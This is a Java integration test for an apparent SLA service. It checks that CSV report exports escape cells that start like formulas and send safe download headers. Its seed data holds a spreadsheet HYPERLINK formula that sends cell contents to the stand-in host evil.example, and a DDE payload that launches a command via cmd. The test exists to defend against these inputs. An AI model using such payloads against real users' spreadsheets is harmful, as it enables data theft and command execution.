package io.slaflow.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.slaflow.sla.SlaRecords;
import io.slaflow.testsupport.Http;
import io.slaflow.testsupport.SlaflowTest;
import java.net.http.HttpResponse;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * A report downloaded as CSV and opened in a spreadsheet runs nothing: one breach of unit "csv-test" on 2 February
 * 2026 whose record id and owner are formulas. The API refuses such ids today, so the record is written straight to
 * the table, as an import, a migration or an older version could have written it.
 */
class CsvExportTest extends SlaflowTest {

  private static final String RECORD = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")";
  private static final String OWNER = "@SUM(1+1)*cmd|' /C calc'!A0";
  private static final String BREACHES = "/api/reports/breaches?unit=csv-test&from=2026-02-02&to=2026-02-03";

  @Autowired JdbcTemplate jdbc;

  @BeforeEach
  void seeded() {
    if (jdbc.queryForObject("SELECT COUNT(*) FROM sla_record WHERE unit = 'csv-test'", Integer.class) > 0) {
      return;
    }
    Instant due = Instant.parse("2026-02-02T10:00:00Z");
    Instant started = due.minusSeconds(7200);
    jdbc.update("INSERT INTO sla_record (id, unit, stage, record_id, owner_id, team_id, clock_kind, target,"
        + " started_at, started_week, due_at, breached_at, outcome) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?)",
        UUID.randomUUID().toString(), "csv-test", "first-contact", RECORD, OWNER, "-team", "business", "PT2H",
        started.atOffset(ZoneOffset.UTC), SlaRecords.weekOf(started), due.atOffset(ZoneOffset.UTC),
        due.atOffset(ZoneOffset.UTC), "breached");
  }

  @Test
  void aRecordIdOwnerOrTeamThatStartsLikeAFormulaComesOutAsText() {
    HttpResponse<String> csv = new Http(port).get(BREACHES + "&format=csv", "admin", ADMIN_PASSWORD);

    assertThat(csv.statusCode()).as(csv.body()).isEqualTo(200);
    assertThat(csv.body()).isEqualTo("unit,stage,recordId,owner,team,dueAt,breachedAt,pausedSeconds,reassignments,"
        + "escalationLevel,cockpitLink\r\n"
        + "csv-test,first-contact,\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Open\"\")\","
        + "\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'-team\",2026-02-02T10:00:00Z,2026-02-02T10:00:00Z,0,0,0,\r\n");
  }

  @Test
  void aCsvAnswerIsAFileToSaveThatIsNeitherSniffedNorKept() {
    HttpResponse<String> csv = new Http(port).get(BREACHES + "&format=csv", "admin", ADMIN_PASSWORD);

    assertThat(csv.statusCode()).as(csv.body()).isEqualTo(200);
    assertThat(csv.headers().firstValue("Content-Disposition")).hasValue("attachment; filename=\"breaches.csv\"");
    assertThat(csv.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    assertThat(csv.headers().firstValue("Cache-Control")).hasValue("no-store");
  }

  @Test
  void eachReportNamesItsOwnFile() {
    Http http = new Http(port);
    String period = "from=2026-02-02&to=2026-02-03&format=csv";

    assertThat(http.get("/api/reports/adherence?" + period, "admin", ADMIN_PASSWORD).headers()
        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"adherence.csv\"");
    assertThat(http.get("/api/reports/first-response?" + period, "admin", ADMIN_PASSWORD).headers()
        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"first-response.csv\"");
    assertThat(http.get("/api/reports/waterfall?" + period, "admin", ADMIN_PASSWORD).headers()
        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"waterfall.csv\"");
  }
}
